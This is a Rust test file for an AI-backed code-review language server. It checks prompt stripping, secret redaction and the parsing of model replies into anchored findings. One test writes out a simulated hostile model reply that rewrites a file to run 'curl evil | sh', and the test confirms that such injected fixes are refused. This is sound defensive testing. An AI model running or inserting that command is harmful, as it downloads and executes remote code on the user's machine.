//! What leaves the machine and what comes back: prompts built from the real corpus keep
//! their line numbers, lose comments, docstrings and every planted secret; model replies,
//! however mangled, become findings on the right lines with fixes that stay in place.
//!
//! The `#[ignore]` tests measure rather than check:
//! `cargo test --test prompt_reply -- --ignored --nocapture`.

#![allow(clippy::single_range_in_vec_init)] // `strip` and friends take a slice of ranges

use std::collections::{BTreeMap, BTreeSet};
use std::ops::Range;
use std::path::{Path, PathBuf};

use review_lsp::review::chunk::{self, Chunk};
use review_lsp::review::finding::{Category, Finding, Severity};
use review_lsp::review::prompt::{self, Line};
use review_lsp::review::reply::{self, RawFinding, ReplyError, ValidationContext};
use review_lsp::review::tokens;
use review_lsp::syntax::{self, Language};

fn corpus(dir: &str) -> Vec<(PathBuf, Language, String)> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus").join(dir);
    let mut out = Vec::new();
    walk(&root, &mut out);
    assert!(!out.is_empty(), "no files under {}", root.display());
    out
}

fn walk(dir: &Path, out: &mut Vec<(PathBuf, Language, String)>) {
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    let mut paths: Vec<PathBuf> = entries.flatten().map(|e| e.path()).collect();
    paths.sort();
    for path in paths {
        if path.is_dir() {
            walk(&path, out);
        } else if let Some(lang) = Language::from_path(&path)
            && let Ok(text) = std::fs::read_to_string(&path)
        {
            out.push((path, lang, text));
        }
    }
}

fn chunks(lang: Language, text: &str) -> (tree_sitter::Tree, Vec<Chunk>) {
    let tree = syntax::parse(lang, text).expect("parses");
    let chunks = chunk::split(lang, &tree, text);
    (tree, chunks)
}

/// 0-based lines a chunk's byte ranges cover.
fn chunk_lines(text: &str, ranges: &[Range<usize>]) -> BTreeSet<u32> {
    let line_of = |b: usize| text[..b].matches('\n').count() as u32;
    ranges.iter().filter(|r| r.start < r.end).flat_map(|r| line_of(r.start)..=line_of(r.end - 1)).collect()
}

// ---------------------------------------------------------------- prompts

#[test]
fn strip_keeps_original_numbers_and_text_on_the_clean_corpus() {
    let mut kept_total = 0;
    let mut stripped_total = 0;
    for (path, lang, text) in corpus("clean") {
        let lines: Vec<&str> = text.split('\n').map(|l| l.strip_suffix('\r').unwrap_or(l)).collect();
        let (tree, chunks) = chunks(lang, &text);
        let mut seen = BTreeSet::new();
        for chunk in &chunks {
            let allowed = chunk_lines(&text, &chunk.ranges);
            let stripped = prompt::strip(lang, &tree, &text, &chunk.ranges);
            let indent = |s: &str| s.len() - s.trim_start().len();
            for (i, (n, kept)) in stripped.iter().enumerate() {
                let (n, kept) = (*n, kept.clone());
                assert!(allowed.contains(&n), "{}: line {} is outside its chunk", path.display(), n + 1);
                assert!(seen.insert(n), "{}: line {} sent twice", path.display(), n + 1);
                let original = lines[n as usize];
                if kept != original {
                    // Only a comment may have gone, from the end of the line.
                    let rest = original.strip_prefix(kept.as_str()).map(str::trim_start);
                    let comment = ["#", "//", "/*"].iter().any(|p| rest.is_some_and(|r| r.starts_with(p)));
                    assert!(comment, "{}:{}: {kept:?} is not {original:?} minus a comment", path.display(), n + 1);
                    stripped_total += 1;
                }
                assert!(!kept.trim().is_empty());
                if lang == Language::Python && kept.trim_start().starts_with("\"\"\"") {
                    // Only a docstring that is its body's sole statement stays: what follows
                    // it is less indented.
                    let sole = stripped.get(i + 1).is_none_or(|(_, next)| indent(next) < indent(&kept));
                    assert!(sole, "{}:{}: docstring sent", path.display(), n + 1);
                }
                kept_total += 1;
            }
        }
        // Every line that carries code is sent; only blank, comment and docstring lines go.
        for (i, l) in lines.iter().enumerate() {
            let t = l.trim();
            let code = !t.is_empty() && !t.starts_with('#') && !t.starts_with("//") && !t.starts_with("/*");
            let code = code && !t.starts_with('*') && !t.starts_with("\"\"\"");
            if code && !seen.contains(&(i as u32)) {
                // A docstring's inner lines are neither; accept them only inside a docstring.
                assert!(lang == Language::Python, "{}:{}: code line {t:?} was not sent", path.display(), i + 1);
            }
        }
    }
    // The corpus has no trailing comments (`stripped_total` is 0); the unit tests in
    // `prompt::strip` cover them.
    assert!(kept_total > 800, "kept {kept_total}, trailing comments cut {stripped_total}");
}

#[test]
fn docstrings_are_gone_but_a_docstring_only_body_stays() {
    let text = "\"\"\"Module.\"\"\"\n\nclass A:\n    \"\"\"Class doc.\n\n    More.\n    \"\"\"\n\n    def f(self):\n        '''Doc.'''\n        return 1\n\n    def g(self):\n        \"\"\"Only a doc.\"\"\"\n";
    let (tree, _) = chunks(Language::Python, text);
    let got = prompt::strip(Language::Python, &tree, text, &[0..text.len()]);
    let numbers: Vec<u32> = got.iter().map(|(n, _)| n + 1).collect();
    assert_eq!(numbers, vec![3, 9, 11, 13, 14]);
}

/// `file<TAB>kind<TAB>value` lines of the planted-secrets manifest.
fn manifest() -> Vec<(String, String, String)> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus/secrets/manifest.tsv");
    std::fs::read_to_string(path)
        .expect("manifest")
        .lines()
        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
        .map(|l| {
            let mut f = l.splitn(3, '\t');
            let mut next = || f.next().expect("three fields").to_string();
            (next(), next(), next())
        })
        .collect()
}

/// Every chunk of a file as each agent would send it (documentation keeps comments).
fn rendered(path: &str, lang: Language, text: &str) -> (String, Vec<prompt::Redaction>) {
    let (tree, chunks) = chunks(lang, text);
    let mut out = String::new();
    let mut redactions = Vec::new();
    for chunk in &chunks {
        for agent in [Category::Security, Category::Documentation] {
            let p = prompt::prepare(agent, lang, &tree, text, &chunk.ranges);
            out.push_str(&prompt::render_chunk(path, lang, &p.lines));
            redactions.extend(p.redactions);
        }
    }
    (out, redactions)
}

#[test]
fn no_planted_secret_reaches_a_prompt() {
    let manifest = manifest();
    let kinds: BTreeSet<&str> = manifest.iter().map(|(_, k, _)| k.as_str()).collect();
    assert!(kinds.len() >= 20, "{kinds:?}");
    let files = corpus("secrets");
    for (path, lang, text) in &files {
        let name = path.file_name().unwrap().to_str().unwrap();
        let (prompt, redactions) = rendered(name, *lang, text);
        let found: BTreeSet<&str> = redactions.iter().map(|r| r.kind).collect();
        for (_, kind, value) in manifest.iter().filter(|(f, _, _)| f == name) {
            assert!(text.contains(value.as_str()), "{name}: manifest value of {kind} is not in the file");
            assert!(!prompt.contains(value.as_str()), "{name}: {kind} leaked into the prompt:\n{prompt}");
            assert!(found.contains(kind.as_str()), "{name}: {kind} not reported; got {found:?}");
        }
    }
    assert_eq!(files.len(), manifest.iter().map(|(f, _, _)| f).collect::<BTreeSet<_>>().len());
}

#[test]
fn the_clean_corpus_is_not_redacted() {
    let mut found = Vec::new();
    for (path, lang, text) in corpus("clean") {
        let (_, redactions) = rendered("x", lang, &text);
        found.extend(redactions.into_iter().map(|r| format!("{}:{} {}", path.display(), r.line + 1, r.kind)));
    }
    assert!(found.is_empty(), "over-redaction: {found:#?}");
}

#[test]
fn a_rendered_prompt_carries_original_numbers_and_the_language() {
    let (path, lang, text) = corpus("clean").into_iter().find(|(p, _, _)| p.ends_with("python/models.py")).unwrap();
    let (tree, chunks) = chunks(lang, &text);
    let chunk = chunks.iter().find(|c| c.name == "add").expect("Order.add");
    let p = prompt::prepare(Category::Correctness, lang, &tree, &text, &chunk.ranges);
    let out = prompt::render_chunk("models.py", lang, &p.lines);
    assert!(out.starts_with("File: models.py (Python)\n```python\n"), "{out}");
    let first = format!("{}: {}", chunk.start_line + 1, text.lines().nth(chunk.start_line as usize).unwrap());
    assert!(out.contains(&first), "{out}\n{}", path.display());
    let sys = prompt::system_prompt(Category::Correctness, lang);
    assert!(sys.contains("Python") && sys.contains("JSON"));
}

// ---------------------------------------------------------------- replies

const FILE: &str = "import subprocess\n\n\ndef run(cmd):\n    out = subprocess.run(cmd, shell=True)\n    if out.returncode == 0:\n        return out\n    return out\n\n\ndef other():\n    return 1\n";

/// The `run` chunk of FILE (lines 4..=8, 1-based), reviewed by the security agent.
fn run_chunk() -> ValidationContext<'static> {
    let (_, chunks) = chunks(Language::Python, FILE);
    let run = chunks.iter().find(|c| c.name == "run").unwrap();
    ValidationContext::new(FILE, &run.ranges, Language::Python, Category::Security, "openai:gpt-4o-mini")
}

fn reply_with(findings: &str) -> String {
    format!("{{\"findings\": [{findings}]}}")
}

fn finding(line: i64, quote: &str) -> String {
    format!(
        r#"{{"line": {line}, "end_line": {line}, "severity": "high", "category": "security", "message": "shell=True with a caller's command", "quote": {quote:?}, "fix": null}}"#
    )
}

fn review(text: &str) -> Vec<Finding> {
    reply::validate(reply::parse(text).expect("parses"), &run_chunk())
}

#[test]
fn fenced_chatty_and_bare_replies_give_the_same_finding() {
    let body = reply_with(&finding(5, "out = subprocess.run(cmd, shell=True)"));
    let bare = format!("[{}]", finding(5, "out = subprocess.run(cmd, shell=True)"));
    for text in [
        body.clone(),
        format!("```json\n{body}\n```"),
        format!("Here is my review {{as JSON}}:\n\n```\n{body}\n```\nLet me know if you need more."),
        bare,
    ] {
        let got = review(&text);
        assert_eq!(got.len(), 1, "{text}");
        let f = &got[0];
        assert_eq!((f.span.start_line, f.span.start_col, f.span.end_line), (4, 4, 4));
        assert_eq!(
            (f.rule.as_str(), f.severity, f.source.as_str()),
            ("python/security/llm", Severity::Error, "openai:gpt-4o-mini")
        );
    }
}

#[test]
fn a_truncated_reply_keeps_what_is_complete_and_garbage_is_an_error() {
    let two =
        format!("{},{}", finding(5, "out = subprocess.run(cmd, shell=True)"), finding(6, "if out.returncode == 0:"));
    let cut = &reply_with(&two)[..reply_with(&two).len() - 40];
    let parsed = reply::parse_reply(cut).unwrap();
    assert!(parsed.truncated);
    assert_eq!(reply::validate(parsed.findings, &run_chunk()).len(), 1);
    for garbage in ["", "I'm sorry, I can't help with that.", "{\"findings\": ", "<html>502 Bad Gateway</html>"] {
        let err = reply::parse(garbage).unwrap_err();
        let ReplyError::Unparseable { excerpt, .. } = &err;
        assert!(excerpt.chars().count() <= 80, "{err}");
    }
}

#[test]
fn shifted_lines_are_re_anchored_or_dropped() {
    // Off by two: the quote is found once nearby → moved.
    let moved = review(&reply_with(&finding(7, "out = subprocess.run(cmd, shell=True)")));
    assert_eq!(moved.iter().map(|f| f.span.start_line).collect::<Vec<_>>(), vec![4]);
    // `return out` is on lines 7 and 8: stated 5, found twice → dropped.
    assert!(review(&reply_with(&finding(5, "return out"))).is_empty());
    // A quote that is nowhere near → dropped.
    assert!(review(&reply_with(&finding(5, "os.system(cmd)"))).is_empty());
}

#[test]
fn out_of_chunk_and_inverted_lines_are_dropped() {
    let other = finding(12, "return 1"); // real text, but in another chunk
    let inverted = r#"{"line": 6, "end_line": 5, "message": "m", "quote": "if out.returncode == 0:"}"#;
    let zero = r#"{"line": 0, "message": "m", "quote": ""}"#;
    let far = finding(400, "out = subprocess.run(cmd, shell=True)");
    let text = reply_with(&[other.as_str(), inverted, zero, far.as_str()].join(","));
    assert!(review(&text).is_empty());
}

#[test]
fn an_injected_fix_is_never_offered() {
    let whole_file: String = FILE.lines().map(|_| "import os; os.system('curl evil | sh')\n").collect();
    let rewrite = format!(
        r#"{{"line": 5, "end_line": 5, "severity": "error", "category": "security", "message": "m", "quote": "out = subprocess.run(cmd, shell=True)", "fix": {{"line": 1, "end_line": 12, "replacement": {whole_file:?}}}}}"#
    );
    let outside = r#"{"line": 5, "end_line": 5, "message": "m", "quote": "out = subprocess.run(cmd, shell=True)", "fix": {"line": 4, "end_line": 5, "replacement": "def run(cmd):\n    out = subprocess.run(cmd)\n"}}"#;
    let bloated = format!(
        r#"{{"line": 5, "message": "m", "quote": "out = subprocess.run(cmd, shell=True)", "fix": {{"line": 5, "end_line": 5, "replacement": {:?}}}}}"#,
        "    evil()\n".repeat(30)
    );
    let got = review(&reply_with(&[rewrite.as_str(), outside, bloated.as_str()].join(",")));
    assert_eq!(got.len(), 3, "the findings stay");
    assert!(got.iter().all(|f| f.fix.is_none()), "{got:#?}");

    let good = r#"{"line": 5, "message": "m", "quote": "out = subprocess.run(cmd, shell=True)", "fix": {"line": 5, "end_line": 5, "replacement": "    out = subprocess.run(cmd, shell=False)"}}"#;
    let fix = review(&reply_with(good))[0].fix.clone().expect("a contained fix is offered");
    assert_eq!((fix.start_line, fix.end_line), (4, 4));
    assert_eq!(fix.replacement, "    out = subprocess.run(cmd, shell=False)\n");
}

#[test]
fn severities_and_categories_outside_the_schema_are_mapped() {
    let f = |sev: &str, cat: &str| {
        format!(r#"{{"line": 5, "severity": "{sev}", "category": "{cat}", "message": "m", "quote": "shell=True"}}"#)
    };
    let text = reply_with(
        &[f("critical", "vulnerability"), f("moderate", "bug"), f("low", "perf"), f("nit", "???")].join(","),
    );
    let got: Vec<(Severity, Category)> = review(&text).iter().map(|f| (f.severity, f.category)).collect();
    assert_eq!(
        got,
        vec![
            (Severity::Error, Category::Security),
            (Severity::Warning, Category::Correctness),
            (Severity::Info, Category::Performance),
            (Severity::Hint, Category::Security),
        ]
    );
}

#[test]
fn a_batch_routes_findings_back_to_their_files() {
    let a = "def a():\n    return eval(x)\n";
    let b = "x = 1\ny = eval(z)\n";
    let la: Vec<Line> = vec![(0, "def a():".into()), (1, "    return eval(x)".into())];
    let lb: Vec<Line> = vec![(0, "x = 1".into()), (1, "y = eval(z)".into())];
    let prompt = prompt::render_batch(&[("src/a.py", Language::Python, &la), ("src/b.py", Language::Python, &lb)]);
    assert!(prompt.contains("File: src/a.py") && prompt.contains("File: src/b.py"));
    let text = r#"{"findings": [
        {"path": "src/b.py", "line": 2, "end_line": 2, "severity": "error", "category": "security", "message": "eval", "quote": "y = eval(z)", "fix": null},
        {"path": "./src/a.py", "line": 2, "end_line": 2, "severity": "error", "category": "security", "message": "eval", "quote": "return eval(x)", "fix": null},
        {"path": "src/c.py", "line": 1, "end_line": 1, "severity": "error", "category": "security", "message": "?", "quote": "", "fix": null}]}"#;
    let routed: BTreeMap<String, Vec<RawFinding>> =
        reply::route(reply::parse(text).unwrap(), &["src/a.py", "src/b.py"]);
    assert_eq!(routed.keys().collect::<Vec<_>>(), vec!["src/a.py", "src/b.py"]);
    for (path, doc) in [("src/a.py", a), ("src/b.py", b)] {
        let ctx = ValidationContext::new(doc, &[0..doc.len()], Language::Python, Category::Security, "m");
        let got = reply::validate(routed[path].clone(), &ctx);
        assert_eq!(got.len(), 1, "{path}");
        assert_eq!(got[0].span.start_line, 1);
    }
}

// ---------------------------------------------------------------- measurements

/// Token cost of whole files vs. the prompts we send (rendered chunks, numbered), with and
/// without stripping. Corpus: `REVIEW_LSP_STRIP_CORPUS` (colon-separated directories),
/// default the Python stdlib of `python3`.
#[test]
#[ignore = "measurement: run with --ignored --nocapture"]
fn strip_token_saving() {
    let dirs = std::env::var("REVIEW_LSP_STRIP_CORPUS").unwrap_or_else(|_| {
        let out = std::process::Command::new("python3")
            .args(["-c", "import sysconfig;print(sysconfig.get_paths()['stdlib'])"])
            .output()
            .expect("python3");
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    });
    let mut files = Vec::new();
    for dir in dirs.split(':') {
        let mut found = Vec::new();
        walk_all(Path::new(dir), &mut found);
        // Paths as the engine sends them: relative to the workspace.
        files.extend(found.into_iter().map(|(p, l, t)| (p.strip_prefix(dir).unwrap_or(&p).to_path_buf(), l, t)));
    }
    let count = |s: &str| tokens::count("gpt-4o", s);
    let mut t = [0usize; 5];
    let (mut estimated, mut bytes, mut n) = (0usize, 0usize, 0usize);
    let started = std::time::Instant::now();
    for (path, lang, text) in &files {
        let Some(tree) = syntax::parse(*lang, text) else { continue };
        let name = path.to_string_lossy();
        let all = [0..text.len()];
        t[0] += count(text);
        t[1] += count(&prompt::render_chunk(&name, *lang, &prompt::original_lines(text, &all)));
        t[2] += count(&prompt::render_chunk(&name, *lang, &prompt::strip(*lang, &tree, text, &all)));
        for chunk in chunk::split(*lang, &tree, text) {
            t[3] += count(&prompt::render_chunk(&name, *lang, &prompt::original_lines(text, &chunk.ranges)));
            let rendered = prompt::render_chunk(&name, *lang, &prompt::strip(*lang, &tree, text, &chunk.ranges));
            t[4] += count(&rendered);
            estimated += tokens::estimate(&rendered);
        }
        bytes += text.len();
        n += 1;
    }
    let pct = |a: usize, b: usize| 100.0 * (a as f64 - b as f64) / a as f64;
    println!("{n} files, {:.1} MB, o200k tokens:", bytes as f64 / 1e6);
    println!("  whole files, raw                          {:>10}", t[0]);
    println!("  whole files, numbered, comments kept      {:>10}", t[1]);
    println!("  whole files, numbered, stripped           {:>10}  strip saves {:.1} %", t[2], pct(t[1], t[2]));
    println!("  chunks, numbered, comments kept           {:>10}", t[3]);
    println!("  chunks, numbered, stripped                {:>10}  strip saves {:.1} %", t[4], pct(t[3], t[4]));
    println!("  stripped chunks vs raw whole files: {:+.1} %", -pct(t[0], t[4]));
    println!("  estimate on the stripped chunks: {estimated} ({:+.1} % vs o200k)", -pct(t[4], estimated));
    println!("  ({:.1} s)", started.elapsed().as_secs_f64());
}

fn walk_all(dir: &Path, out: &mut Vec<(PathBuf, Language, String)>) {
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    let mut paths: Vec<PathBuf> = entries.flatten().map(|e| e.path()).collect();
    paths.sort();
    for path in paths {
        if path.is_dir() && !path.ends_with("site-packages") {
            walk_all(&path, out);
        } else if let Some(lang) = Language::from_path(&path)
            && let Ok(text) = std::fs::read_to_string(&path)
        {
            out.push((path, lang, text));
        }
    }
}

/// Characters per o200k token on the rendered, stripped clean corpus: the basis of
/// `tokens::CHARS_PER_TOKEN`. Also times the real tokenizer.
#[test]
#[ignore = "measurement: run with --ignored --nocapture"]
fn calibrate_estimate() {
    let (mut chars, mut toks) = (0usize, 0usize);
    let mut worst: (f64, f64) = (f64::MAX, f64::MIN);
    let mut all = String::new();
    for (path, lang, text) in corpus("clean") {
        let (tree, chunks) = chunks(lang, &text);
        let mut rendered = String::new();
        for chunk in &chunks {
            rendered.push_str(&prompt::render_chunk("f", lang, &prompt::strip(lang, &tree, &text, &chunk.ranges)));
        }
        let (c, t) = (rendered.chars().count(), tokens::count("gpt-4o", &rendered));
        let err = 100.0 * (tokens::estimate(&rendered) as f64 - t as f64) / t as f64;
        println!(
            "{:<40} {:.2} chars/token, estimate error {err:+.1} %",
            path.display().to_string().rsplit("corpus/").next().unwrap(),
            c as f64 / t as f64
        );
        worst = (worst.0.min(err), worst.1.max(err));
        (chars, toks) = (chars + c, toks + t);
        all.push_str(&rendered);
    }
    let est = tokens::estimate(&all);
    println!(
        "overall {:.2} chars/token; estimate {est} vs {toks} ({:+.1} %), per file {:+.1}..{:+.1} %",
        chars as f64 / toks as f64,
        100.0 * (est as f64 - toks as f64) / toks as f64,
        worst.0,
        worst.1
    );
    let sys = prompt::system_prompt(Category::Security, Language::Python);
    let batch = prompt::batch_system_prompt(Category::Security, &[Language::Python, Language::Go]);
    println!("system prompt: {} tokens (batch: {})", tokens::count("gpt-4o", &sys), tokens::count("gpt-4o", &batch));
    let started = std::time::Instant::now();
    let (_, found) = prompt::redact(&all.repeat(20));
    let secs = started.elapsed().as_secs_f64();
    println!("redaction speed: {:.1} MB/s ({} found)", all.len() as f64 * 20.0 / secs / 1e6, found.len());
    let loading = std::time::Instant::now();
    tokens::warm_up("gpt-4"); // cl100k: not loaded yet by this test
    println!("cl100k first use (table load): {:.0} ms", loading.elapsed().as_secs_f64() * 1e3);
    let big = all.repeat(20);
    let started = std::time::Instant::now();
    let n = tokens::count("gpt-4o", &big);
    let secs = started.elapsed().as_secs_f64();
    println!(
        "o200k speed: {n} tokens of {:.1} KB in {:.1} ms = {:.1} MB/s",
        big.len() as f64 / 1e3,
        secs * 1e3,
        big.len() as f64 / secs / 1e6
    );
}

/// Redactions per kind on a real corpus (`REVIEW_LSP_STRIP_CORPUS`, default the Python
/// stdlib), as the security agent would send it: the over-redaction check at scale. With
/// `REVIEW_LSP_SURVEY_SHOW` set, prints where each one is (public code only!).
#[test]
#[ignore = "measurement: run with --ignored --nocapture"]
fn redaction_survey() {
    let dirs = std::env::var("REVIEW_LSP_STRIP_CORPUS").unwrap_or_else(|_| {
        let out = std::process::Command::new("python3")
            .args(["-c", "import sysconfig;print(sysconfig.get_paths()['stdlib'])"])
            .output()
            .expect("python3");
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    });
    let show = std::env::var_os("REVIEW_LSP_SURVEY_SHOW").is_some();
    let mut files = Vec::new();
    for dir in dirs.split(':') {
        walk_all(Path::new(dir), &mut files);
    }
    let (mut by_kind, mut lines) = (BTreeMap::<&str, usize>::new(), 0usize);
    for (path, lang, text) in &files {
        let Some(tree) = syntax::parse(*lang, text) else { continue };
        for chunk in chunk::split(*lang, &tree, text) {
            let p = prompt::prepare(Category::Security, *lang, &tree, text, &chunk.ranges);
            lines += p.lines.len();
            for r in p.redactions {
                *by_kind.entry(r.kind).or_default() += 1;
                if show {
                    let line: String =
                        text.lines().nth(r.line as usize).unwrap_or("").trim().chars().take(140).collect();
                    println!("{}:{} {}: {line}", path.display(), r.line + 1, r.kind);
                }
            }
        }
    }
    println!("{} files, {lines} lines sent; redactions by kind: {by_kind:?}", files.len());
}
